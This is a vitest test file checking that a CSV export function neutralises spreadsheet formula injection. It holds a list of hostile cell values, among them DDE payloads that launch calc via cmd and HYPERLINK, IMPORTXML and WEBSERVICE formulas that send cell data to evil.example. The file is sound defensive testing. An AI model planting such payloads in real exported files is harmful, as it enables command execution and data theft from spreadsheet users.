import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { toCsv } from "./csv";

/** Texts that spreadsheets would run as formulas if written to a cell unchanged. */
const HOSTILE = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "+1+1",
  "+cmd|' /C notepad'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@import",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  " =1+1",
  "   @SUM(A1)",
  "\u00a0=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  '"=1+1',
  '",=1+1,"',
  'Rosa",=1+1',
  "Rosa,=1+1",
  "Rosa;=1+1",
  "Rosa\t=1+1",
  "Rosa\n=1+1",
  "Rosa\r\n=cmd|' /C calc'!A0,x",
  "Rosa|=1+1",
  '="""=1+1',
  "'=1+1\n@x",
];

/** Splits as a spreadsheet with this separator would: a quote counts at the start of a cell only. */
function cells(csv: string, separator: string): string[] {
  const found: string[] = [];
  let rest = csv.replace("\uFEFF", "");
  while (rest !== "") {
    const quoted = /^"((?:[^"]|"")*)"/.exec(rest);
    const plain = new RegExp(`^[^${separator === "|" ? "\\|" : separator}\r\n]*`).exec(rest)?.[0] ?? "";
    found.push(quoted ? (quoted[1] ?? "").replaceAll('""', '"') : plain);
    rest = rest.slice(quoted ? quoted[0].length : plain.length);
    // What follows a closing quote belongs to the same cell.
    if (quoted)
      rest = rest.slice(
        (new RegExp(`^[^${separator === "|" ? "\\|" : separator}\r\n]*`).exec(rest)?.[0] ?? "").length,
      );
    rest = rest.replace(/^(\r\n|[\s\S])/, "");
  }
  return found;
}

const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell);

describe("a CSV file", () => {
  test("has more than thirty kinds of attack to withstand", () => {
    expect(new Set(HOSTILE).size).toBeGreaterThan(30);
  });

  test.each([",", ";", "\t", "|"])("has no formula in any cell, split at %j", (separator) => {
    for (const text of HOSTILE)
      for (const row of [[text], ["Rosa", text, 1], [text, text]])
        expect(cells(toCsv([row, ["end"]]), separator).filter(isFormula), JSON.stringify(text)).toEqual([]);
  });

  test("is split at commas into the cells that were put in", () => {
    const text = fc.string({ unit: "grapheme" });
    fc.assert(
      fc.property(fc.array(fc.oneof(text, fc.constantFrom(...HOSTILE)), { minLength: 1 }), (row) => {
        const read = cells(toCsv([row]), ",");
        expect(read.filter(isFormula)).toEqual([]);
        if (row.every((cell) => cell !== "")) expect(read).toHaveLength(row.length);
      }),
    );
  });

  test("keeps numbers and harmless texts as they are", () => {
    expect(
      toCsv([
        ["Month", "Revenue"],
        ["2026-11", -1999],
        ['Ana "la jefa", S.A.', 0],
      ]),
    ).toBe('\uFEFFMonth,Revenue\r\n2026-11,-1999\r\n"Ana ""la jefa"", S.A.",0\r\n');
  });
});
